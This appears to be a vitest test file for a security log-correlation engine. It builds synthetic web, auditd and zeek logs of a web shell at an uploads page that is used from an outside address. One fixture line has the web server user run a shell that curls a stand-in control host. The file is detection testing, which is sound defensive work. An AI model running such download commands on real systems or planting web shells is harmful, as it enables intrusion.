import { expect, test } from 'vitest'
import { ItemBuilder } from '../../test/case-events.ts'
import { storeItems } from '../../test/contract/event-store.ts'
import { correlate } from './index.ts'

const DAY = Date.parse('2024-03-09T00:00:00Z')
const iso = (minute: number, second = 0) => new Date(DAY + minute * 60_000 + second * 1000).toISOString()
const CONTROL = '192.0.2.201'

interface Told {
  readonly auditPath?: string
  /** Does a sensor see the connections that come to the server? */
  readonly sensor?: boolean
  /** Minutes after midnight at which the page is asked, and minutes at which its server starts something. */
  readonly asked?: readonly number[]
  readonly started?: readonly number[]
}

/** A page is used from outside, the server's audit log (which names no host) shows what it started, and both lie in one folder. */
async function story({
  auditPath = 'web/audit.log',
  sensor = true,
  asked = [170],
  started = [171],
}: Told): Promise<readonly string[]> {
  const access = new ItemBuilder('web/portal.access.log')
  const audit = new ItemBuilder(auditPath)
  const conn = new ItemBuilder('zeek/conn.log')
  const ask = (minute: number, clientIp: string, method: string, path: string) => {
    conn.add(
      iso(minute),
      { kind: 'network_activity', action: 'flow', srcIp: clientIp, srcPort: 40_000 + minute, dstIp: '10.5.1.20', dstPort: 443 },
      { product: 'zeek', code: 'conn' },
    )
    access.add(
      iso(minute, 1),
      { kind: 'http_activity', clientIp, method, path, query: '', status: 200 },
      { product: 'access-log', series: 'access-log||portal.access.log' },
    )
  }
  for (let visit = 0; visit < 8; visit++) ask(20 * visit, `198.51.100.${10 + visit}`, 'GET', '/portal/')
  for (const minute of asked) ask(minute, '203.0.113.77', 'POST', '/portal/uploads/tide.php')
  access.hit('web-shell/lone-page', 'Page used like a web shell', '/portal/uploads/tide.php', {
    severity: 'high',
    techniques: ['T1505.003'],
    addresses: ['203.0.113.77'],
  })
  for (const minute of started) {
    audit.add(
      iso(minute, 2),
      {
        kind: 'process_activity',
        action: 'start',
        image: '/usr/bin/dash',
        commandLine: `sh -c "curl http://${CONTROL}/k"`,
        user: 'www-data',
      },
      { product: 'auditd' },
    )
    audit.hit('web-shell/worker-starts-shell', 'a process of www-data started a shell', 'sh', {
      severity: 'critical',
      techniques: ['T1505.003', 'T1059.004'],
      addresses: [CONTROL],
    })
  }
  const store = await storeItems(sensor ? [access.item(), audit.item(), conn.item()] : [access.item(), audit.item()])
  try {
    const { incidents } = await correlate({ drafts: [], queries: store, assets: undefined, marks: [] })
    return incidents.map(incident => incident.steps.map(step => `${step.from.name} -> ${step.to.name}`).join(', '))
  } finally {
    store.close()
  }
}

test('logs of one folder without a host’s name are one machine, and who came to it tells its address', async () => {
  expect(await story({})).toEqual(['203.0.113.77 -> 10.5.1.20, 10.5.1.20 -> 10.5.1.20'])
})

test('without a sensor the machine is called after its web log', async () => {
  const server = 'web server of web/portal.access.log'
  expect(await story({ sensor: false })).toEqual([`203.0.113.77 -> ${server}, ${server} -> ${server}`])
})

test('a log in another folder may be any machine’s, and nobody came from an address that a command only names', async () => {
  const told = await story({ auditPath: 'other/audit.log' })
  expect(told).toHaveLength(2)
  expect(told.join()).not.toContain(CONTROL)
})

const USED = [170, 174, 179, 188]

test('a log in another folder whose processes start when a page is asked for is that server’s', async () => {
  const told = await story({ auditPath: 'other/audit.log', asked: USED, started: USED })
  expect(told.map(steps => steps.split(', ').toSorted())).toEqual([['10.5.1.20 -> 10.5.1.20', '203.0.113.77 -> 10.5.1.20']])
})

test('starts at other times are any machine’s', async () => {
  const told = await story({ auditPath: 'other/audit.log', asked: USED, started: USED.map(minute => minute + 2) })
  expect(told).toHaveLength(2)
})
